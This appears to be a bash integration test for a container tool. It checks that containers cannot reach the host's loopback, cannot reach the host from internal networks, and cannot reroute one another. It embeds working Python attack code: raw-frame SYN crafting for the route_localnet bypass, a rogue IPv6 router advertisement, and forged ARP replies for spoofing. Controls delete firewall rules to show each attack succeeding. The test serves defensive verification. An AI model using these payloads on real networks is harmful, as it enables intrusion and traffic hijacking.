#!/bin/bash
# Network attacks from containers (docs/how-it-works.md, isolation: no path from a container to
# the host's loopback or to the host from an internal network; one
# container must not reroute another). Every attack is shown failing, and
# beside it a control shows it working once the test takes the protection
# away (a rule of the project's table deleted, a sysctl turned back),
# so that a failure for another reason does not pass. Frames are crafted
# with AF_PACKET (CAP_NET_RAW is in Docker's default set): they go to the
# gateway's MAC with any IP destination, which no socket of the container
# could send.
. "$NC_SRC/tests/lib/lib.sh"

lab=$NC_SRC/tests/integration/labs/escape-net/compose.yaml
pids=()
tmp=$(mktemp -d /tmp/ncompose-escnet.XXXXXX)
trap 'for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done; nc -p escnet down >/dev/null 2>&1; rm -rf "$tmp"' EXIT
x() { nc -p escnet exec "$@"; }

# One IPv4 frame from inside a container: a TCP SYN or a UDP datagram
# ("ncompose-probe") to the MAC given, with the IP addresses given. For a
# SYN it then waits up to WAIT seconds for the answer and prints `synack`
# (a listener answered), `rst` (the host's stack answered: no listener)
# or `nothing` (dropped on the way).
#   python3 -c "$FRAME" IFACE DST_MAC SRC_IP DST_IP tcp|udp PORT [WAIT]
FRAME=$(
	cat <<'EOF'
import os, select, socket, struct, sys, time
def csum(b):
    b += b'\0' * (len(b) % 2)
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
iface, dmac, src, dst, proto, dport = sys.argv[1:7]
wait = float(sys.argv[7]) if len(sys.argv) > 7 else 0
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((iface, 0))
smac = s.getsockname()[4]
sport, dport = 40000 + os.getpid() % 20000, int(dport)
sip, dip = socket.inet_aton(src), socket.inet_aton(dst)
if proto == 'tcp':
    pn, l4 = 6, struct.pack('!HHIIBBHHH', sport, dport, 4242, 0, 5 << 4, 0x02, 65535, 0, 0)
    at = 16
else:
    data = b'ncompose-probe'
    pn, l4 = 17, struct.pack('!HHHH', sport, dport, 8 + len(data), 0) + data
    at = 6
c = csum(sip + dip + struct.pack('!BBH', 0, pn, len(l4)) + l4) or 0xffff
l4 = l4[:at] + struct.pack('!H', c) + l4[at + 2:]
ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(l4), 1, 0, 64, pn, 0, sip, dip)
ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
s.send(bytes.fromhex(dmac.replace(':', '')) + smac + b'\x08\x00' + ip + l4)
end = time.time() + wait
while proto == 'tcp' and time.time() < end:
    if not select.select([s], [], [], max(0, end - time.time()))[0]:
        break
    pkt, addr = s.recvfrom(65535)
    if addr[2] == socket.PACKET_OUTGOING or len(pkt) < 54:
        continue
    h = 14 + (pkt[14] & 15) * 4
    if pkt[23] != 6 or pkt[26:30] != dip or struct.unpack('!HH', pkt[h:h + 4]) != (dport, sport):
        continue
    f = pkt[h + 13]
    print('synack' if f & 0x12 == 0x12 else 'rst' if f & 4 else 'other')
    sys.exit(0)
if proto == 'tcp':
    print('nothing')
EOF
)
frame() { local ctr=$1; shift; x "$ctr" python3 -c "$FRAME" "$@" 2>&1; }

# Handle of the rule of chain CHAIN (of the project's table) that matches
# the fixed string RULE; deleting it is what a control does.
handle() { # chain rule
	nft -a list chain inet nc_escnet "$1" | grep -F -- "$2 # handle" | sed 's/.*# handle //'
}
delete_rule() { # chain rule
	local h
	h=$(handle "$1" "$2")
	[ -n "$h" ] && nft delete rule inet nc_escnet "$1" handle "$h"
}

# A listener on the host, started by the test and killed at the end.
listen() { # what-to-find-in-ss command...
	local want=$1; shift
	"$@" &
	pids+=($!)
	for _ in $(seq 50); do
		ss -Hlntu | grep -qF -- "$want" && return 0
		sleep 0.1
	done
	echo "listener on $want never came up" >&2
	return 1
}

check "up -d" nc -f "$lab" up -d
# What the controls rely on, set here rather than taken from the host.
sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
for br in nc-escnet-front nc-escnet-back nc-escnet-flat; do
	sysctl -qw "net.ipv4.conf.$br.rp_filter=0"
done

# --- 2. The host's loopback through route_localnet (kube-proxy's
# CVE-2020-8558). Ports published on 127.0.0.1 need route_localnet on the
# bridge, which also lets 127.0.0.0/8 in from it. `attacker` sends a SYN
# for 127.0.0.1 to the gateway's MAC: to a host service bound to loopback
# only, and to web's port published on 127.0.0.1 only.
mac() { ip -br link show dev "$1" | awk '{print $3}'; }
gwmac=$(mac nc-escnet-front)
listen 127.0.0.1:9999 socat TCP-LISTEN:9999,bind=127.0.0.1,fork,reuseaddr EXEC:cat
table=$(nft list table inet nc_escnet)
loopback() { # how
	local how=$1
	check_eq "$how: route_localnet is on the bridge (what the attack needs)" \
		"$(sysctl -n net.ipv4.conf.nc-escnet-front.route_localnet)" "1"
	check_match "$how: the host still reaches a port published on 127.0.0.1" \
		"$(echo lo | timeout 5 socat -t2 - TCP:127.0.0.1:2290 2>&1)" '^lo$'
	check_match "$how: ... and on every address, from 127.0.0.1" \
		"$(echo lo2 | timeout 5 socat -t2 - TCP:127.0.0.1:8090 2>&1)" '^lo2$'
	check_eq "$how: a SYN to the host's 127.0.0.1:9999 (loopback only) at the gateway's MAC: dropped" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 127.0.0.1 tcp 9999 2)" "nothing"
	check_eq "$how: a SYN to 127.0.0.1:2290 (published on 127.0.0.1 only) at the gateway's MAC: dropped" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 127.0.0.1 tcp 2290 2)" "nothing"
	check_eq "$how: ... while a SYN to the gateway's own address is answered (the frame is right)" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 10.61.0.1 tcp 8090 5)" "synack"
	check "$how: control: delete the input rule that drops 127.0.0.0/8 from the bridges" \
		delete_rule input 'iifname @bridges ip daddr 127.0.0.0/8 drop'
	check_eq "$how: ... the SYN reaches the host's loopback-only service (control)" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 127.0.0.1 tcp 9999 5)" "synack"
	check_eq "$how: ... the forward rule still keeps 127.0.0.1:2290 out" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 127.0.0.1 tcp 2290 2)" "nothing"
	check "$how: control: delete the forward rule too" \
		delete_rule forward 'iifname @bridges ct original ip daddr 127.0.0.0/8 drop'
	check_eq "$how: ... the SYN reaches the port published on 127.0.0.1 only (control)" \
		"$(frame attacker eth0 "$gwmac" 10.61.0.20 127.0.0.1 tcp 2290 5)" "synack"
	nft delete table inet nc_escnet && printf '%s\n' "$table" | nft -f -
}
# With br_netfilter, bridged IPv4 goes through the IP hooks, and prerouting
# sees the bridge's port where input and forward see the bridge: both ways.
if [ -e /proc/sys/net/bridge/bridge-nf-call-iptables ]; then
	sysctl -qw net.bridge.bridge-nf-call-iptables=1
	loopback "br_netfilter on"
	sysctl -qw net.bridge.bridge-nf-call-iptables=0
	loopback "br_netfilter off"
else
	loopback "no br_netfilter"
fi

# --- 15. [::1]:PORT from the host, for a port published on every address
# of a dual-stack container: refused at once. DNATed, the SYN would carry
# ::1 out of a bridge, which the kernel never routes: the client hung.
out=$(echo v6 | timeout 10 socat -t2 - 'TCP6:[::1]:8090' 2>&1)
check_match "[::1]:8090 from the host is refused, not left hanging" "$out" 'Connection refused'
check "control: DNAT [::1] in output as well" \
	nft insert rule inet nc_escnet output fib daddr type local dnat ip6 to meta l4proto . th dport map @dnat6
refused6() { echo v6 | timeout 3 socat -t1 - 'TCP6:[::1]:8090' 2>&1 | grep -q 'Connection refused'; }
check_fails "... then [::1]:8090 is not refused: the SYN is lost (control; 3 s)" refused6

# --- 7. The host is no member of an internal network: its bridge holds no
# IPv6 address (a link-local one carried TCP to services on [::]), and
# nothing from it is delivered to the host (a frame to the bridge's MAC
# reached a socket on another address of the host).
backmac=$(mac nc-escnet-back)
check_eq "the internal bridge has IPv6 off" "$(sysctl -n net.ipv6.conf.nc-escnet-back.disable_ipv6)" "1"
check_eq "... and no IPv6 address" "$(ip -6 -o addr show dev nc-escnet-back)" ""
# The link-local address it would have (EUI-64 of its MAC).
ll=$(python3 -c 'import sys; m = bytes.fromhex(sys.argv[1].replace(":", "")); e = bytes([m[0] ^ 2]) + m[1:3] + b"\xff\xfe" + m[3:]
print("fe80::" + ":".join("%x" % (e[i] << 8 | e[i + 1]) for i in range(0, 8, 2)))' "$backmac")
listen :9998 socat TCP6-LISTEN:9998,ipv6only=0,fork,reuseaddr EXEC:cat
python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 9997))
while True:
    d, a = s.recvfrom(100)
    open(sys.argv[1], "a").write("%s %s\n" % (a[0], d.decode(errors="replace")))
' "$tmp/udp" &
pids+=($!)
for _ in $(seq 50); do ss -Hlnu | grep -qF ':9997' && break; sleep 0.1; done
v6probe() { x inside sh -c "echo in6 | timeout 3 socat -t2 - 'TCP6:[$ll%eth0]:9998'" 2>&1; }
v6reach() { v6probe | grep -q in6; }
check_fails "inside: TCP to the internal bridge's link-local address: nothing answers" v6reach
frame inside eth0 "$backmac" 10.62.0.20 10.61.0.1 udp 9997 >/dev/null
sleep 2 # a datagram that got through would be there by now
check_eq "inside: a UDP frame to the bridge's MAC for the host's 10.61.0.1: not delivered" \
	"$(cat "$tmp/udp" 2>/dev/null)" ""
check "control: IPv6 back on the internal bridge (no duplicate address detection)" \
	sysctl -qw net.ipv6.conf.nc-escnet-back.accept_dad=0 net.ipv6.conf.nc-escnet-back.disable_ipv6=0
check_match "... it has its link-local address again" "$(ip -6 -o addr show dev nc-escnet-back)" "$ll/64"
check_fails "... TCP to it is still dropped (the input rule)" v6reach
check "control: delete the input rule for internal networks" delete_rule input 'iifname @internal drop'
check_match "... TCP over the link-local address reaches the host's [::] service (control)" "$(v6probe)" '^in6$'
: >"$tmp/udp"
frame inside eth0 "$backmac" 10.62.0.20 10.61.0.1 udp 9997 >/dev/null
for _ in $(seq 50); do [ -s "$tmp/udp" ] && break; sleep 0.1; done
check_eq "... the UDP frame reaches the host's socket (control)" "$(cat "$tmp/udp")" "10.62.0.20 ncompose-probe"

# --- 8. Router advertisements (Docker's CVE-2020-13401). `rogue` sends an
# RA (a default route through itself) to all nodes of an IPv4-only network,
# until `witness`, given accept_ra=1 by the test, took the route; `victim`,
# with the defaults, received the same RAs and has no route.
RA=$(
	cat <<'EOF'
import socket, struct
i = socket.if_nametoindex('eth0')
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, i)
# type 134, code, checksum (the kernel's), hop limit, flags, router lifetime 1800 s
s.sendto(struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0), ('ff02::1', 0, 0, i))
EOF
)
check_eq "victim: accept_ra is 0 on its interface" \
	"$(ip netns exec escnet-victim sysctl -n net.ipv6.conf.eth0.accept_ra)" "0"
check_eq "... and for interfaces to come" \
	"$(ip netns exec escnet-victim sysctl -n net.ipv6.conf.default.accept_ra)" "0"
check "control: witness accepts RAs (accept_ra=1, forwarding=0, IPv6 on)" \
	ip netns exec escnet-witness sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0 \
	net.ipv6.conf.eth0.forwarding=0 net.ipv6.conf.eth0.accept_ra=1
got=
for _ in $(seq 20); do
	x rogue python3 -c "$RA" || break
	got=$(ip -n escnet-witness -6 route show default)
	[ -n "$got" ] && break
	sleep 0.2
done
check_match "... rogue's RA gives witness a default route through rogue (control)" "$got" '^default via fe80::.* proto ra'
check_eq "victim got the same RAs and has no default route" "$(ip -n escnet-victim -6 route show default)" ""

# --- 16. ARP spoofing between containers of one bridge: allowed as in
# Docker, refused on a network with anti_spoofing: true. The attacker
# answers for the victim's address with its own MAC (an ARP reply to the
# peer, which already holds the victim's entry: it takes an unsolicited
# reply for an entry it has, once locktime, set to 0 here, has passed).
ARP=$(
	cat <<'EOF'
import socket, struct, sys
claim, to_ip, to_mac = sys.argv[1:4]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind(('eth0', 0))
me = s.getsockname()[4]
dst = bytes.fromhex(to_mac.replace(':', ''))
arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x0800, 6, 4, 2, me, socket.inet_aton(claim), dst,
                  socket.inet_aton(to_ip))
s.send(dst + me + b'\x08\x06' + arp)
EOF
)
ipof() { ip -n "escnet-$1" -4 -br addr show eth0 | awk '{print $3}' | cut -d/ -f1; }
macof() { ip -n "escnet-$1" -br link show eth0 | awk '{print $3}'; }
held() { ip -n "escnet-$1" neigh show "$2" | awk '{for (i = 1; i < NF; i++) if ($i == "lladdr") print $(i + 1)}'; }
spoof() { # attacker victim peer: prints the MAC the peer then holds for the victim
	local vip pip
	vip=$(ipof "$2") pip=$(ipof "$3")
	ip netns exec "escnet-$3" sysctl -qw net.ipv4.neigh.eth0.locktime=0
	x "$3" ping -c1 -W2 "$vip" >/dev/null
	# The forged reply is sent again every half second while we look: one
	# packet can lose a race with the peer's own ARP traffic on a loaded
	# machine, and the guarded case must hold against every copy anyway.
	for i in $(seq 20); do
		[ $((i % 5)) = 1 ] && x "$1" python3 -c "$ARP" "$vip" "$pip" "$(macof "$3")"
		[ "$(held "$3" "$vip")" = "$(macof "$1")" ] && break
		sleep 0.1
	done
	held "$3" "$vip"
}
check_eq "flat (no anti-spoofing): rogue takes victim's address in witness's ARP cache (control)" \
	"$(spoof rogue victim witness)" "$(macof rogue)"
check_eq "guarded: spoofer's ARP reply for target never reaches peer" \
	"$(spoof spoofer target peer)" "$(macof target)"
check "guarded: ... and spoofer still talks to peer as itself" x spoofer ping -c1 -W2 "$(ipof peer)"
check "control: delete the project's bridge table (the guards)" nft delete table bridge nc_escnet
check_eq "... then spoofer takes target's address in peer's ARP cache (control)" \
	"$(spoof spoofer target peer)" "$(macof spoofer)"
check_match "config prints anti_spoofing" "$(nc -f "$lab" config)" 'anti_spoofing: true'

check "down" nc -p escnet down
check_clean escnet
finish
